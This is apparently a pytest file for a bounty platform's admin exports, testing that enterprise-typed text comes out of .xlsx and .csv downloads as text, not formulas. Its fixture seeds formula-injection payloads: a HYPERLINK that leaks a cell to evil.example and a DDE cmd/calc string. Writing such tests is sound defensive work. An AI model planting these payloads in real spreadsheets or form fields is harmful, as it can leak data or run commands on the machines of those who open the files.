"""Issue 11 item 7, exports: text typed by an enterprise (a 榜 titled =HYPERLINK(...), a field, an
organisation, a region, a reviewer's name) never becomes a formula in any .xlsx or .csv the
bureau downloads — the 导出中心 tables, the statistics workbook, the expert pool."""

import csv
import io
import re
import zipfile

import openpyxl
import pytest

from challenge.exports.tables import TABLES
from challenge.extensions import db
from challenge.models import ExpertProfile
from challenge.reviewing import operations as panels
from challenge.states import ChallengeState, OrgType, Role

from .wire import Wire

LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"点此查看")'
TYPED = {
    "title": LINK,
    "field": '=HYPERLINK("http://evil.example","新材料")',
    "contact_name": "+1+1",
    "industry_tags": "@SUM(1+1)",
}
ORG_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
REGION = "\t=1+1"
REVIEWER = "-2+3"
POOL_NAME = "\r=1+2"
NUMBER = re.compile(r"[+-]?(\d[\d,]*(\.\d*)?|\.\d+)%?")


@pytest.fixture
def poisoned(make, people):
    """Every kind of typed text, each starting like a formula, in 榜 of several states."""
    org = make.org(name=ORG_NAME, region=REGION)
    issuer = make.user(Role.ENTERPRISE, org=org, name="填表人")
    make.challenge(issuer, ChallengeState.CONTRACTED, admin=people["admin"], **TYPED)
    reviewing = make.challenge(issuer, ChallengeState.REVIEWING, admin=people["admin"], **TYPED)
    reviewer = make.user(Role.REVIEWER, org=make.org(type=OrgType.UNIVERSITY), name=REVIEWER)
    panels.seat_reviewer(reviewing, reviewer, people["admin"])
    db.session.add(ExpertProfile(name=POOL_NAME, organization_name="=1+1", fields="-材料",
                                 keywords="@熔喷", source="import"))
    db.session.commit()


DOWNLOADS = ([f"/admin/exports/{name}.{fmt}?period=all" for name in TABLES for fmt in ("xlsx", "csv")]
             + ["/admin/statistics/export.xlsx?period=all", "/admin/statistics/export.csv?period=all",
                "/admin/experts/export.xlsx", "/admin/experts/export.csv"])


def formulas_in_xlsx(data: bytes) -> list[str]:
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", archive.read(name)):
                found.append(f"{name}: <f> element")
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            found += [f"{sheet.title}!{c.coordinate}={c.value!r}" for c in row if c.data_type == "f"]
    return found


def xlsx_text(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [str(c.value) for s in book.worksheets for row in s.iter_rows() for c in row
            if c.value is not None]


def formulas_in_csv(data: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [cell for row in rows for cell in row
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not NUMBER.fullmatch(cell)]


def test_no_download_carries_a_formula(live_server, people, poisoned):
    admin = Wire(live_server)
    admin.login(people["admin"].email)
    problems, seen = {}, set()
    for path in DOWNLOADS:
        reply = admin.get(path)
        assert reply.status == 200, path
        assert reply.headers["X-Content-Type-Options"] == "nosniff"
        if ".xlsx" in path:
            found = formulas_in_xlsx(reply.body)
            seen.update(t for t in xlsx_text(reply.body) if t in (LINK, TYPED["field"], ORG_NAME,
                                                                  REGION.strip(), REVIEWER))
        else:
            found = formulas_in_csv(reply.body)
            text = reply.body.decode("utf-8-sig")
            seen.update(t for t in (LINK, ORG_NAME, REVIEWER) if f"'{t}" in text
                        or f"'{t}".replace('"', '""') in text)
        if found:
            problems[path] = found[:5]
    assert not problems, problems
    # The typed text is exported, as text: nothing was dropped to pass the check.
    assert {LINK, TYPED["field"], ORG_NAME, REVIEWER} <= seen, seen


def test_the_attack_cell_reads_back_as_the_typed_text(live_server, people, poisoned):
    """The 榜 titled =HYPERLINK(...) both ways: a text cell in the workbook, an apostrophe-marked
    cell in the CSV (Excel's sign for "text"), the tab-led region too."""
    admin = Wire(live_server)
    admin.login(people["admin"].email)
    book = openpyxl.load_workbook(io.BytesIO(admin.get(
        "/admin/exports/challenges.xlsx?period=all").body))
    titles = [c for row in book.worksheets[0].iter_rows() for c in row if c.value == LINK]
    assert titles and all(c.data_type == "s" for c in titles)
    rows = list(csv.reader(io.StringIO(admin.get(
        "/admin/exports/challenges.csv?period=all").body.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert "'" + LINK in cells and "'" + REGION in cells and LINK not in cells
    stats = openpyxl.load_workbook(io.BytesIO(admin.get(
        "/admin/statistics/export.xlsx?period=all").body))
    fields = [c for s in stats.worksheets for row in s.iter_rows() for c in row
              if c.value == TYPED["field"]]
    assert fields and all(c.data_type == "s" for c in fields)
